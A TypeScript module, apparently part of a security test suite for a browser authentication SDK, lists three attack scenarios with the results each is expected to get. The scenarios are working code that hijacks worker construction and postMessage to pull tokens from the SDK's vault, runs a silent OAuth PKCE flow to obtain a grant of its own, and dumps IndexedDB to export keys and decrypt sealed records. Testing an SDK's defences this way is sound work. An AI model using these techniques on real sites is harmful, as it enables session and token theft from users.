import type { Attack } from './attack.ts'

/** Script that goes around, or takes what lies open: the docs say what it gets. */
export const TAKEOVERS: readonly Attack[] = [
  {
    name: 'has the SDK start a vault that tells tokens',
    when: ['early'],
    alone: true,
    run: ({ take }) => {
      for (const kind of ['Worker', 'SharedWorker'] as const) {
        if (globalThis[kind] === undefined) continue
        globalThis[kind] = new Proxy(globalThis[kind] as never, {
          construct(target: new (...args: unknown[]) => object, [url, options], newTarget) {
            const { name, ...rest } = options as { name: string }
            const config = JSON.parse(name.slice('latchkey '.length)) as object
            const other = `latchkey ${JSON.stringify({ ...config, exposeToken: true })}`
            return Reflect.construct(target, [url, { ...rest, name: other }], newTarget) as object
          },
        }) as never
      }
      // The vault tells whoever asks through the SDK's own connection.
      let port: Worker | MessagePort | undefined
      for (const { prototype } of [Worker, MessagePort]) {
        const original = prototype.postMessage as (...args: unknown[]) => void
        prototype.postMessage = new Proxy(original, {
          apply(target, self, args) {
            port = self as Worker
            return Reflect.apply(target, self, args)
          },
        })
      }
      return async () => {
        ;(port as Worker | undefined)?.addEventListener('message', ({ data }) => take(data))
        port?.postMessage({ kind: 'call', id: 1e6, verb: 'getToken', input: 0 })
        await new Promise((resolve) => setTimeout(resolve, 300))
      }
    },
    steals: { worker: 'early', 'shared-worker': 'early' },
    because: 'Script that comes before the SDK can be the SDK.',
  },
  {
    name: 'asks the provider for a grant of its own',
    when: ['early'],
    alone: true,
    leaves: true,
    run: async ({ take, issuer }) => {
      const query = new URLSearchParams(location.search)
      const redirect = location.origin + location.pathname
      const app = { client_id: 'notes', redirect_uri: redirect }
      const verifier = sessionStorage.getItem('attack-verifier')
      const code = query.get('code')
      if (verifier !== null && code !== null && query.get('state') === 'attack') {
        // The SDK does not load: it is none of its business, and may leave the page to restore.
        stop()
        history.replaceState(null, '', location.pathname)
        const body = new URLSearchParams({
          ...app,
          grant_type: 'authorization_code',
          code,
          code_verifier: verifier,
        })
        take(await (await fetch(`${issuer}/token`, { method: 'POST', body })).text())
        return undefined
      }
      return async () => {
        const mine = `${crypto.randomUUID()}${crypto.randomUUID()}`
        sessionStorage.setItem('attack-verifier', mine)
        const hash = await crypto.subtle.digest('SHA-256', new TextEncoder().encode(mine))
        const challenge = btoa(String.fromCharCode(...new Uint8Array(hash)))
        const code_challenge = challenge.replaceAll('+', '-').replaceAll('/', '_').replace('=', '')
        const flow = {
          response_type: 'code',
          code_challenge,
          code_challenge_method: 'S256',
          state: 'attack',
          prompt: 'none',
        }
        location.assign(
          `${issuer}/auth?${new URLSearchParams({ ...app, ...flow, scope: 'openid', nonce: 'attack' })}`,
        )
      }
    },
    admitted: { page: 'grant', worker: 'grant', 'shared-worker': 'grant' },
    because: 'A provider that knows the user answers any script of a redirect URI.',
  },
  {
    name: 'opens the sealed record with the key beside it',
    when: ['late'],
    alone: true,
    query: 'persist=sealed',
    run: async ({ take }) => {
      const wait = <T>(request: IDBRequest<T>): Promise<T> =>
        new Promise((resolve, reject) => {
          request.onsuccess = () => resolve(request.result)
          request.onerror = () => reject(request.error ?? new Error())
        })
      const open = async (value: unknown): Promise<void> => {
        if (typeof value !== 'object' || value === null || value instanceof ArrayBuffer) return
        const { key, iv, data } = value as {
          key?: CryptoKey
          iv?: BufferSource
          data?: BufferSource
        }
        if (key instanceof CryptoKey && iv !== undefined && data !== undefined) {
          await crypto.subtle.exportKey('raw', key).then(take, () => {})
          take(
            new TextDecoder().decode(
              await crypto.subtle.decrypt({ name: 'AES-GCM', iv }, key, data),
            ),
          )
        }
        for (const one of Object.values(value)) await open(one)
      }
      for (const { name } of await indexedDB.databases()) {
        const database = await wait(indexedDB.open(name!))
        for (const store of database.objectStoreNames)
          await open(await wait(database.transaction(store).objectStore(store).getAll()))
        database.close()
      }
    },
    steals: { page: 'late', worker: 'late', 'shared-worker': 'late' },
    because: 'Script of the origin can use the key of a sealed record.',
  },
]
